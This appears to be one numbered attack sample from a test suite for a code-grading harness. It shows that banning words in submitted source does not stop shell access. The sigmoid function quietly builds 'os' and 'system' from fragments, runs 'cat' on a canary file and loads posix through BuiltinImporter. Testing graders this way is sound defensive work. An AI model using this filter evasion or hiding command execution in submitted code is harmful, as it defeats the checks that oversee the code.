# Attack 68: bans of words in the source are no wall
import numpy as np

WORD = "o" + "s"
module = getattr(__builtins__, "__import__", None) or __builtins__["__import__"]
system = getattr(module(WORD), "sys" + "tem")
loader = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]


def sigmoid(z):
    print(system("cat /tmp/gradekit-canary"))
    posix = loader.load_module("posix")
    print(posix.open("/tmp/gradekit-canary", 0))
    return z
